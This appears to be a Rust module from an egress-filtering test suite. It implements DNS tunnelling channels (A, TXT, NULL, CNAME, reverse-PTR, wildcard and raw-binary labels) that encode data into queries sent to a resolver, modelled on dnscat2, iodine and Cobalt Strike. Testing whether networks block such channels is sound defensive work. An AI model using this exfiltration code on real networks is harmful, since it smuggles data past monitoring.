//! Data as names that are asked for.

use std::{io, net::UdpSocket};

use crate::lab::{
    battery::{
        Aim, Channel, each,
        field::{Field, ZONE},
        ledger::Pieces,
    },
    probe::Family,
};

use super::message::{
    A as ADDRESS, CNAME as ALIAS, IN_NAME, LABEL, Message, NULL as NOTHING, PORT, PTR, TXT as TEXT,
    binary_name, name, read,
};

/// Whoever has addresses has the zone of their reverse names.
const REVERSE_ZONE: &str = "113.0.203.in-addr.arpa";

const LEADS_TO_ANYBODY: Aim = Aim::OutOfScope {
    why: "the policy approves every name below, and does not say which of them are meant",
    remedy: "limit the wildcard: `dns:` with `wildcard_name_length` and `wildcard_names_per_minute`; or name what is needed",
};

pub(super) const A: Channel = Channel {
    name: "dns-a",
    how: "labels below a foreign zone, asked for as addresses",
    seen_in: "Cobalt Strike, DNSExfiltrator, dnscat2",
    aim: Aim::Stop,
    carry: |field, pieces| ask(field, pieces, Family::V4, "dns-a", ZONE, ADDRESS),
    read: Some(|frame| read(frame, "dns-a")),
};

pub(super) const TXT: Channel = Channel {
    name: "dns-txt",
    how: "labels below a foreign zone, asked for as texts, which bring much back",
    seen_in: "dns2tcp, dnscat2, DNSMessenger",
    aim: Aim::Stop,
    carry: |field, pieces| ask(field, pieces, Family::V4, "dns-txt", ZONE, TEXT),
    read: Some(|frame| read(frame, "dns-txt")),
};

pub(super) const NULL: Channel = Channel {
    name: "dns-null",
    how: "labels below a foreign zone, asked for as records of any content",
    seen_in: "iodine",
    aim: Aim::Stop,
    carry: |field, pieces| ask(field, pieces, Family::V6, "dns-null", ZONE, NOTHING),
    read: Some(|frame| read(frame, "dns-null")),
};

pub(super) const CNAME: Channel = Channel {
    name: "dns-cname",
    how: "labels below a foreign zone, asked for as aliases",
    seen_in: "iodine -T CNAME, dnscat2",
    aim: Aim::Stop,
    carry: |field, pieces| ask(field, pieces, Family::V6, "dns-cname", ZONE, ALIAS),
    read: Some(|frame| read(frame, "dns-cname")),
};

pub(super) const REVERSE: Channel = Channel {
    name: "dns-reverse",
    how: "labels below the reverse zone of the sink's addresses, asked for as names",
    seen_in: "look-ups of addresses in logs that an attacker provokes",
    aim: Aim::Stop,
    carry: |field, pieces| ask(field, pieces, Family::V4, "dns-reverse", REVERSE_ZONE, PTR),
    read: Some(|frame| read(frame, "dns-reverse")),
};

pub(super) const WILDCARD_TXT: Channel = Channel {
    name: "dns-wildcard-txt",
    how: "labels below an approved wildcard, asked for as texts",
    seen_in: "dns2tcp at a zone of a hosting provider",
    aim: Aim::Stop,
    carry: |field, pieces| {
        let zone = &field.wildcard()?.name;
        ask(field, pieces, Family::V4, "dns-wildcard-txt", zone, TEXT)
    },
    read: Some(|frame| read(frame, "dns-wildcard-txt")),
};

pub(super) const BINARY: Channel = Channel {
    name: "dns-binary",
    how: "labels of any bytes below an approved wildcard",
    seen_in: "iodine -O raw",
    aim: Aim::Stop,
    carry: |field, pieces| {
        let resolver = resolver(field, Family::V4)?;
        let zone = &field.wildcard()?.name;
        each((0..).zip(pieces.of(LABEL)), |(id, piece)| {
            let message = Message::ask(id, &binary_name(&piece, zone), ADDRESS);
            resolver.send(&message.bytes()).map(drop)
        })
    },
    read: None,
};

pub(super) const WILDCARD: Channel = Channel {
    name: "dns-wildcard",
    how: "labels below an approved wildcard, asked for as addresses",
    seen_in: "a zone, an account or a host name of one's own below a provider's wildcard",
    aim: LEADS_TO_ANYBODY,
    carry: |field, pieces| {
        let zone = &field.wildcard()?.name;
        ask(field, pieces, Family::V6, "dns-wildcard", zone, ADDRESS)
    },
    read: Some(|frame| read(frame, "dns-wildcard")),
};

fn ask(
    field: &Field,
    pieces: &Pieces,
    family: Family,
    mark: &str,
    zone: &str,
    kind: u16,
) -> io::Result<()> {
    let resolver = resolver(field, family)?;
    each((0..).zip(pieces.of(IN_NAME)), |(id, piece)| {
        let message = Message::ask(id, &name(&piece, mark, zone), kind);
        resolver.send(&message.bytes()).map(drop)
    })
}

/// A socket whose datagrams go to the resolver.
pub(super) fn resolver(field: &Field, family: Family) -> io::Result<UdpSocket> {
    resolver_from(field, family, 0)
}

/// As [`resolver`], from a port by which a reader knows what it sends.
pub(super) fn resolver_from(field: &Field, family: Family, port: u16) -> io::Result<UdpSocket> {
    let side = field.side(family)?;
    let socket = UdpSocket::bind((side.local, port))?;
    socket.connect((side.resolver()?, PORT))?;
    Ok(socket)
}
